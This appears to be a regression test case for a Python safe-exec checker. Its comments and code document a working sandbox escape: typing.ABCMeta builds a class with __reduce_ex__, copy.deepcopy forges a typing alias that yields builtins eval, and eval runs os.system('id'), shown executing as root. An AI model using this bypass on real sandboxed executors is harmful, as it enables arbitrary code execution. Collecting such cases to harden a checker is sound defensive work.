# expect: reject module_attribute
# Mechanism: metaclass-only bypass: typing.ABCMeta (same object as abc.ABCMeta, allowed 
#   by the generated typing facade) called as a function builds a class from a dict with 
#   __reduce_ex__; copy.deepcopy runs it and writes state into a typing alias (forged 
#   _name), whose reduce indexes typing's globals -> builtins eval
# Goal reached: eval obtained as a value and called; ran a process (id)
# Checker: build/safe-exec-check --rules rules FILE -> exit 0 (accepted)
# Output seen under python3 (3.11.7), run in a throw-away temp dir:
#   | <built-in function eval>
#   | uid=0(root) gid=0(root) groups=0(root)
# typing.ABCMeta is abc.ABCMeta re-exported; the checker's metaclass-only rule is
# keyed on "abc ABCMeta" only, so typing.ABCMeta(name, bases, namespace) builds a
# class from a dict holding __reduce_ex__ (which dunder-define forbids in class bodies).
import copy
import typing


def red(self, proto):
    # deepcopy -> _reconstruct: y = List.copy_with(("eval",)); y.__dict__.update(state)
    return (typing.List.copy_with, (("eval",),), {"_name": "__builtins__"})


K = typing.ABCMeta("K", (), {"__reduce_ex__": red})
forged = copy.deepcopy(K())        # a typing alias whose _name is "__builtins__"
ev = copy.deepcopy(forged)         # its reduce: getitem(typing.__builtins__, "eval")
print(ev)
ev("__import__('os').system('id')")
